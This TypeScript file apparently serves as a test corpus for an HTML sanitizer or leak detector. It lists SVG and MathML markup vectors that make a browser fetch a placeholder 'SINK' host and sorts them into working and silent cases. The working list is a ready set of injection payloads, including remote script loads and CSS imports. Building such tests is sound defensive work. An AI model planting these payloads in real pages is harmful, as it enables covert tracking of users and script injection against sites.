import type { Leak } from './leak.ts'

const svg = (inside: string): string => `<svg width=50 height=50>${inside}</svg>`

const WORKING: readonly string[] = [
  '<image href="SINK" width=9 height=9 />',
  '<image xlink:href="SINK" width=9 height=9 />',
  '<image href="x" xlink:href="SINK" width=9 height=9 /><image href="SINK" width=9 height=9 />',
  '<filter id=f><feImage href="SINK" /></filter><rect filter="url(#f)" width=9 height=9 />',
  '<filter id=f><feImage xlink:href="SINK" /></filter><rect filter="url(#f)" width=9 height=9 />',
  '<pattern id=p width=1 height=1><image href="SINK" width=9 height=9 /></pattern><rect fill="url(#p)" width=9 height=9 />',
  '<mask id=m><image href="SINK" width=9 height=9 /></mask><rect mask="url(#m)" width=9 height=9 />',
  '<symbol id=s><image href="SINK" width=9 height=9 /></symbol><use href="#s" />',
  '<rect fill="url(SINK.svg#x)" width=9 height=9 />',
  '<rect mask="url(SINK.svg#x)" width=9 height=9 />',
  '<rect filter="url(OWN#x)" width=9 height=9 />',
  '<rect width=9 height=9><set attributeName=filter to="url(OWN#x)" /></rect>',
  '<use href="OWN#x" />',
  '<use><set attributeName=href to="OWN#x" /></use>',
  '<link xmlns="http://www.w3.org/1999/xhtml" rel=stylesheet href="SINK.css" />',
  '<rect clip-path="url(SINK.svg#x)" width=9 height=9 />',
  '<path marker-start="url(SINK.svg#x)" d="M0 0h9" />',
  '<path marker-end=" u\\72l( \'SINK.svg#x\' )" d="M0 0h9" />',
  '<rect cursor="url(SINK),auto" width=9 height=9 />',
  '<rect style="fill:url(SINK.svg#x)" width=9 height=9 />',
  '<image width=9 height=9><animate attributeName=href values="SINK" fill=freeze dur=9s /></image>',
  '<image width=9 height=9><animate attributeName=href from="SINK" to="SINK?2" dur=9s /></image>',
  '<image width=9 height=9><set attributeName=href to="SINK" /></image>',
  '<image id=i width=9 height=9 /><set href="#i" attributeName=href to="SINK" />',
  '<rect width=9 height=9><set attributeName=mask to="url(SINK.svg#x)" /></rect>',
  '<rect width=9 height=9><set attributeName=clip-path attributeType=CSS to="url(SINK.svg#x)" /></rect>',
  '<script href="SINK.js"></script>',
  '<script xlink:href="SINK.js"></script>',
  '<foreignObject width=9 height=9><img src="SINK"></foreignObject>',
  '<foreignObject width=9 height=9><iframe src="SINK"></iframe></foreignObject>',
  '<style>@import "SINK.css";</style>',
  '<style><![CDATA[@import "SINK.css";]]></style>',
]

const SILENT: readonly (readonly [string, string])[] = [
  ['<use href="SINK.svg#x" />', 'only of the same origin'],
  ['<use xlink:href="//HOST/x.svg#x" />', 'only of the same origin'],
  [
    '<use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=SINK /></svg>#x" />',
    'gone from Chromium',
  ],
  [
    '<linearGradient href="SINK.svg#g" id=l /><rect fill="url(#l)" width=9 height=9 />',
    'only of the same document',
  ],
  [
    '<pattern href="SINK.svg#g" id=l /><rect fill="url(#l)" width=9 height=9 />',
    'only of the same document',
  ],
  [
    '<filter id=f href="SINK.svg#f" /><rect filter="url(#f)" width=9 height=9 />',
    'gone from Chromium',
  ],
  [
    '<text><textPath href="SINK.svg#p">x</textPath><tref xlink:href="SINK.svg#p" /></text>',
    'only of the same document',
  ],
  [
    '<rect width=9 height=9><animateMotion dur=9s><mpath href="SINK.svg#p" /></animateMotion></rect>',
    'only of the same document',
  ],
  ['<use><set attributeName=href to="SINK.svg#x" /></use>', 'only of the same origin'],
  ['<a href="SINK"><text y=9>x</text></a>', 'only when it is clicked'],
  [
    '<font-face><font-face-src><font-face-uri href="SINK" /></font-face-src></font-face>',
    'gone from Chromium',
  ],
  [
    '<color-profile name=p href="SINK" /><cursor id=c href="SINK" /><rect cursor="url(#c)" width=9 height=9 />',
    'gone from Chromium',
  ],
  [
    "<image href=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='SINK'/></svg>\" width=9 height=9 />",
    'an SVG as an image loads nothing',
  ],
  ['<rect filter="url(SINK.svg#x)" width=9 height=9 />', 'only of the same origin'],
  ['<g style="filter:url(SINK.svg#f)"><rect width=9 height=9 /></g>', 'only of the same origin'],
  [
    '<rect width=9 height=9><set attributeName=filter to="url(SINK.svg#x)" /></rect>',
    'only of the same origin',
  ],
  [
    '<image width=9 height=9><set attributeName="xlink:href" to="SINK" /></image>',
    'only href is animated',
  ],
  [
    '<rect width=9 height=9><animate attributeName=fill values="url(SINK.svg#x);red" dur=9s /></rect>',
    'colours only',
  ],
  ['<animate attributeName=style values="fill:url(SINK)" />', 'style is not animated'],
  [
    '<handler type=text/javascript>fetch("SINK")</handler><listener event=load handler="SINK" />',
    'of no browser',
  ],
  [
    '<video xlink:href="SINK" width=9 height=9 /><audio xlink:href="SINK" /><iframe href="SINK" />',
    'of no browser',
  ],
  ['<discard href="SINK" /><view xlink:href="SINK" /><mpath xlink:href="SINK" />', 'named only'],
]

export const SVG_LEAKS: readonly Leak[] = [
  ...WORKING.map((inside) => ({ name: inside, markup: svg(inside) })),
  ...SILENT.map(([inside, silent]) => ({ name: inside, markup: svg(inside), silent })),
  ...[
    ['<math href="SINK"><mi>x</mi></math>', 'only when it is clicked'],
    [
      '<math><maction actiontype="statusline#SINK" xlink:href="SINK">x</maction></math>',
      'gone from all browsers',
    ],
    [
      '<math><mglyph src="SINK" alt=x /><annotation-xml encoding="text/html"><b>x</b></annotation-xml></math>',
      'not in Chromium',
    ],
    [
      '<math><mtext><b style="x:y">x</b></mtext><annotation src="SINK">x</annotation></math>',
      'not in Chromium',
    ],
  ].map(([markup = '', silent = '']) => ({ name: markup, markup, silent })),
  {
    name: 'an image in the text of a formula',
    markup: '<math><mtext><img src="SINK"></mtext></math>',
  },
  {
    name: 'an image in the annotation of a formula',
    markup:
      '<math><semantics><mi>x</mi><annotation-xml encoding="text/html"><img src="SINK"></annotation-xml></semantics></math>',
  },
  {
    name: 'the background of a formula',
    markup: '<math style="background:url(SINK)"><mi>x</mi></math>',
  },
]
